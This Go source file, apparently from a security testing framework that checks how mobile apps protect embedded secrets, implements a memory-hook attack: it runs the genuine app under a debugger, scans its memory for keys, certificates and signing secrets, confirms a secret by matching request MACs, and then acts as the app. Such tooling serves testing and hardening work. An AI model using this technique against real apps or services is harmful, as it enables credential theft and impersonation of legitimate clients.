package attacker

import (
	"context"
	"fmt"

	"keyladder/mobileclient/attacker/debugger"
	"keyladder/mobileclient/attacker/loot"
	"keyladder/stages/catalog"
	"keyladder/stages/mechanism/hawk"
	"keyladder/stages/protect"
)

// memoryHook runs the genuine app on the attacker's own phone, has it make a call, and
// reads its memory. However well a secret is hidden in the package, the app has to put
// it together before it can use it. The search knows what keys look like and not where
// they are; what it finds is tried.
//
//keyladder:code attack-memory-hook
func memoryHook(ctx context.Context, g *Given) (Result, error) {
	phone, found, err := g.hook(ctx)
	if err != nil {
		return stopped(err)
	}
	defer phone.close()
	tries, err := g.identities(found.OfApp()...)
	if err != nil {
		return Result{}, err
	}
	if len(tries) == 0 {
		return Result{Check: catalog.CheckHidden, Obstacle: "nothing in the app's memory turned out to be a secret"}, nil
	}
	return robAs(ctx, g, tries)
}

// hook starts the genuine app on the attacker's own phone, uses it, and searches its
// memory. The search knows what keys, signed requests and certificates look like, and
// not where they are, what they are called, or how the package hides them. The caller
// closes the phone.
func (g *Given) hook(ctx context.Context) (*phone, *loot.Loot, error) {
	p, err := g.open(ctx, g.Package, nil)
	if err != nil {
		return nil, nil, err
	}
	found, err := p.hook(ctx)
	if err != nil {
		p.close()
		return nil, nil, err
	}
	return p, found, nil
}

func (p *phone) hook(ctx context.Context) (*loot.Loot, error) {
	if err := p.signIn(ctx); err != nil {
		return nil, err
	}
	if _, err := shown(p.app.Accounts(ctx)); err != nil {
		return nil, err
	}
	p.g.Say("Started the genuine app on our own phone and had it show the accounts.")
	nobody, err := p.g.caller(protect.Identity{})
	if err != nil {
		return nil, err
	}
	signed := lacks(nobody, protect.Secret)
	found, candidates := &loot.Loot{}, loot.Texts{}
	searched, err := debugger.EachWritable(ctx, p.app.PID(), func(_ uint64, data []byte) {
		found.Search(data)
		if signed {
			candidates.Collect(data)
		}
	})
	if err != nil {
		return nil, fmt.Errorf("read the app's memory: %w", err)
	}
	p.g.Say("Searched %d MiB of its memory.", searched>>20)
	if signed {
		if err := p.proveSecret(found, candidates); err != nil {
			return nil, err
		}
	}
	if lacks(nobody, protect.ClientCertificate) && len(found.Certificates.Pairs()) == 0 {
		if err := p.findKey(ctx, found); err != nil {
			return nil, err
		}
	}
	p.g.Say("Found in it: %s.", found)
	return found, nil
}

// proveSecret tries all texts against the signed requests that lay in the same memory.
func (p *phone) proveSecret(found *loot.Loot, candidates loot.Texts) error {
	host, port, err := hawk.HostPort(p.g.TLS)
	if err != nil {
		return err
	}
	secrets := &found.Secrets
	secrets.Values = nil // what has a name may be a decoy; what fits a signature is the secret
	p.g.Say("%d signed requests lay there, and %d texts that could be a secret.", len(secrets.Signed), len(candidates))
	if secret := candidates.Prove(host, port, secrets.Signed); secret != "" {
		secrets.Values = []string{secret}
		p.g.Say("One of the texts makes the same MAC: it is the secret (%s).", loot.Fingerprint(secret))
	}
	return nil
}

// findKey looks for the private key of a certificate that the app has, as a number.
func (p *phone) findKey(ctx context.Context, found *loot.Loot) error {
	keys := loot.NewScalars(found.Certificates.All)
	p.g.Say("No private key stands there as a file would have it. Trying every number in memory that looks random against the certificates that are there, too.")
	if _, err := debugger.EachWritable(ctx, p.app.PID(), func(_ uint64, data []byte) { keys.Search(data) }); err != nil {
		return fmt.Errorf("read the app's memory: %w", err)
	}
	for _, key := range keys.Found {
		found.Certificates.AddKey(key)
	}
	p.g.Say("Tried %d numbers: %d of them is the private key of a certificate.", keys.Tried(), len(keys.Found))
	return nil
}
